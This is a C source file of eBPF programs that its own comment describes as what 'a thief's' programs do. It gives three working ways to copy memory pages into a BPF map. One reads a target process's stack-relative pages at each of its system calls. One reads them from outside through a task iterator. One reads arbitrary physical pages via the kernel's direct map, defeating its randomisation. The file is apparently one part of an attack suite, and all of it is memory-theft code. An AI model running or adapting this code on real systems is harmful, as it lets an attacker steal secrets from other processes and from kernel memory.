/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * What a thief's BPF programs do: copy pages of the target to a map. One file
 * for all three ways; the attacks load the one that they are about.
 *
 * work.page says which, in the sense of the program; work.out has them after.
 */
#include <linux/bpf.h>

#include <bpf/bpf_helpers.h>

#include "pages.h"

#define RSP 152 /* in struct pt_regs of x86-64 */

char LICENSE[] SEC("license") = "GPL";

struct work work;

/* Where the direct map begins, if the kernel puts it at random. */
extern const void page_offset_base __ksym __weak;
#define DIRECT_MAP 0xffff888000000000ull

struct bpf_iter_meta;
struct task_struct {
	int tgid;
	int pid;
} __attribute__((preserve_access_index));
struct bpf_iter__task {
	struct bpf_iter_meta *meta;
	struct task_struct *task;
} __attribute__((preserve_access_index));

/* In the target's context, at each of its system calls: probe_read_user. */
SEC("raw_tp/sys_enter")
int
probe(struct bpf_raw_tracepoint_args *ctx)
{
	unsigned long long sp = 0;

	if (bpf_get_current_pid_tgid() >> 32 != work.target)
		return 0;
	if (work.relative)
		bpf_probe_read_kernel(&sp, sizeof(sp), (const void *)(ctx->args[0] + RSP));
	sp &= ~(PAGE - 1ull);
	for (int k = 0; k < 64; k++) {
		unsigned int i = work.next;

		if (i >= PAGES || i >= work.pages)
			break;
		work.next = i + 1;
		work.good[i] = bpf_probe_read_user(&work.out[(unsigned long long)i * PAGE], PAGE,
						   (const void *)(sp + work.page[i])) == 0;
	}
	return 0;
}

/* From outside: the task iterator, copy_from_user_task. */
SEC("iter.s/task")
int
iterate(struct bpf_iter__task *ctx)
{
	struct task_struct *task = ctx->task;

	if (task == (void *)0 || task->pid != (int)work.target)
		return 0;
	for (unsigned int i = 0; i < PAGES; i++) {
		if (i >= work.pages)
			break;
		work.next = i + 1;
		work.good[i] = bpf_copy_from_user_task(&work.out[(unsigned long long)i * PAGE],
						       PAGE, (const void *)work.page[i], task,
						       0) == 0;
	}
	return 0;
}

/* From anywhere: physical pages in the kernel's direct map; work.page are frame numbers. */
SEC("raw_tp/sys_enter")
int
direct(struct bpf_raw_tracepoint_args *ctx)
{
	unsigned long long base = DIRECT_MAP;

	if (bpf_get_current_pid_tgid() >> 32 != work.trigger)
		return 0;
	if (&page_offset_base != (void *)0)
		bpf_probe_read_kernel(&base, sizeof(base), &page_offset_base);
	for (int k = 0; k < 64; k++) {
		unsigned int i = work.next;

		if (i >= PAGES || i >= work.pages)
			break;
		work.next = i + 1;
		work.good[i] = bpf_probe_read_kernel(&work.out[(unsigned long long)i * PAGE], PAGE,
						     (const void *)(base + work.page[i] * PAGE)) ==
			       0;
	}
	return 0;
}
